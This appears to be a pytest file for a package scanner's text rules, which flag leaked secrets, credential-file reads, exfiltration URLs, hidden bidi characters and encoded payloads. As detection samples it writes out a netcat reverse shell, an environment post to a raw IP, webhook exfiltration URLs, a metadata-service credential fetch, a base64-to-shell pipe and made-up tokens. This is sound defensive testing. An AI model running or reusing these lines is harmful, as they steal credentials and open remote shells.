"""Text rules: each family found on the line it sits on, secrets masked, benign text quiet, no suppressions."""

import base64
import random

from pypi_platform.lib.scans.text_rules import text_findings

# Built from parts so that this file itself holds no complete secret.
AWS_KEY = "AKIA" + "Q7RZ2MWJ5HNPK3VY"
GITHUB_TOKEN = "ghp_" + "u8Kq2ZbN4rWx7LmT1pVc9sYd3FgH6jEa0oRi"
PRIVATE_KEY = "-----BEGIN " + "RSA PRIVATE KEY-----"
# A made-up key body: base64 of the right length, no key inside.
KEY_BODY = base64.b64encode(random.Random(3).randbytes(600)).decode()
PEM = PRIVATE_KEY + "\\n" + KEY_BODY + "\\n-----END RSA PRIVATE KEY-----"


def _found(text: str) -> list[tuple[str, int]]:
    return sorted((finding.rule, finding.line) for finding in text_findings("pkg/x.py", text))


def test_each_family_is_found_on_its_line():
    text = "\n".join(
        [
            f"KEY = '{AWS_KEY}'",
            f"TOKEN = '{GITHUB_TOKEN}'  # nosec",
            f"PEM = '{PEM}'",
            "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            "requests.post('http://203.0.113.7:8080/collect', data=env)",
            "urlopen('https://discord.com/api/webhooks/640391827164509283/Qk3vZpW8yT')",
            "access_level = 'user' # \u202e } \u2066if is_admin\u2069 \u2066 begin admins only",
            "blob = '" + base64.b64encode(random.Random(7).randbytes(1800)).decode() + "'",
        ]
    )
    assert _found(text) == [
        ("credentials.sensitive-path", 4),
        ("network.paste-or-webhook-url", 6),
        ("network.raw-ip-url", 5),
        ("obfuscation.long-encoded-literal", 8),
        ("secret.aws-access-key", 1),
        ("secret.github-token", 2),  # the nosec comment changes nothing
        ("secret.private-key", 3),
        *[("text.bidi-or-invisible", 7)] * 4,
    ]


def test_secrets_are_masked_in_the_evidence():
    (finding,) = text_findings("pkg/x.py", f"key = '{AWS_KEY}'\n")
    assert AWS_KEY not in finding.evidence
    assert finding.evidence.startswith(AWS_KEY[:8])
    assert finding.path == "pkg/x.py" and finding.severity == "critical"


def test_benign_code_and_a_leading_byte_order_mark_give_nothing():
    text = "\ufeffimport os\n\ndef main():\n    return os.environ.get('HOME', '/tmp')\n# see https://example.org/docs\n"
    assert _found(text) == []


def test_local_and_private_addresses_are_not_raw_ip_findings_and_the_metadata_service_is_its_own_rule():
    text = "\n".join(
        [
            "Run the docs at http://127.0.0.1:8000/ or http://0.0.0.0:5000",
            "Intranet: http://10.1.2.3/ http://192.168.1.1/ http://172.20.0.5/",
            "creds = get('http://169.254.169.254/latest/meta-data/iam/')",
            "beacon = 'http://172.32.0.1/x'",
        ]
    )
    assert _found(text) == [("network.cloud-metadata", 3), ("network.raw-ip-url", 4)]


def test_client_configuration_is_its_own_rule_and_arithmetic_is_not_an_encoded_literal():
    text = "\n".join(
        ["NETRC_FILES = ('.netrc', '_netrc')", "x = " + "1+" * 1500 + "1", "rule = '" + "-" * 3000 + "'"]
    )
    assert _found(text) == [("credentials.client-config", 1)]


def test_a_service_base_url_is_not_a_webhook_but_a_concrete_endpoint_is():
    text = "\n".join(
        [
            "API = 'https://api.telegram.org/bot'  # a client library builds requests on this",
            "URL = f'https://discord.com/api/webhooks/{hook_id}/{token}'",
            "EXFIL = 'https://api.telegram.org/bot640391827:AAbbCCddEEffGGhh/sendMessage'",
            "docs: see the Cookies section",
            "path = profile + '/Network/Cookies'",
        ]
    )
    found = list(text_findings("pkg/x.py", text))
    assert sorted((f.rule, f.line) for f in found if f.severity != "low") == [
        ("credentials.sensitive-path", 5),
        ("network.paste-or-webhook-url", 3),
    ]
    assert {(f.rule, f.line) for f in found if f.severity == "low"} == {
        ("network.messaging-api", 1),
        ("network.messaging-api", 2),
    }


def test_text_bidi_or_invisible_in_identifiers_strings_and_code():
    text = "\n".join(
        [
            "is_\u200badmin = False",  # inside an identifier
            'if role == "admin\u2060":',  # at the end of a string compared against
            "x = 1 # \u202e hidden comment",  # a bidi override counts anywhere in code
            "if access\u200b== 'x': pass",  # between a name and an operator
        ]
    )
    assert _found(text) == [("text.bidi-or-invisible", line) for line in (1, 2, 3, 4)]


def test_emoji_joiners_script_joiners_tables_and_comments_are_not_invisible_characters():
    text = "\n".join(
        [
            'FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"',  # an emoji ZWJ sequence
            'WORD = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"',  # a Persian word with its ZWNJ
            'ZERO_WIDTH = "\u200b\u200c\u200d\u2060"',  # a table of the characters themselves
            'SAMPLE = "\\U0001f469\\U0001f3fb\u200d\\U0001f4bb"',  # escapes around a joiner
            "# \u200bcudaError_t cudaSetDevice(int device)  copied from a reference page",
            '"""A PKI realm\u2014-\u200bas if the user connected directly."""',
        ]
    )
    assert _found(text) == []


def test_obfuscation_long_encoded_literal_is_not_an_inlined_image_or_names_run_together():
    rng = random.Random(11)
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(1800)).decode()
    gif = base64.b64encode(b"GIF89a" + rng.randbytes(1800)).decode()
    names = "_".join(f"in_table_{rng.randrange(10**6)}" for _ in range(200))
    payload = base64.b64encode(rng.randbytes(1800)).decode()
    text = "\n".join(
        [f"ICON = '{png}'", f"LOGO = 'data:image/gif;base64,{gif}'", f"x = {names}", f"P = '{payload}'"]
    )
    assert _found(text) == [("obfuscation.long-encoded-literal", 4)]


def test_network_reverse_shell_in_data_is_a_capability_in_signature_lists_and_docs():
    command = "nc -e /bin/sh 203.0.113.9 4444"
    (in_yaml,) = text_findings("pkg/rules/malicious_code.yaml", f'- keyword: "{command}"\n')
    assert in_yaml.rule == "network.reverse-shell-in-data" and in_yaml.kind == "capability"
    assert in_yaml.severity == "medium"  # still reported on its line
    (in_script,) = text_findings("pkg/hooks/post_install.sh", command + "\n")
    assert in_script.rule == "network.reverse-shell"


def test_long_encoded_runs_in_data_files_are_not_payloads_but_in_scripts_they_are():
    blob = base64.b64encode(random.Random(13).randbytes(1800)).decode()
    assert list(text_findings("pkg/tests/data/zoneinfo.json", f'{{"data": "{blob}"}}')) == []
    assert [f.rule for f in text_findings("pkg/bin/run", f"echo {blob} | base64 -d | sh")] == [
        "obfuscation.long-encoded-literal"
    ]
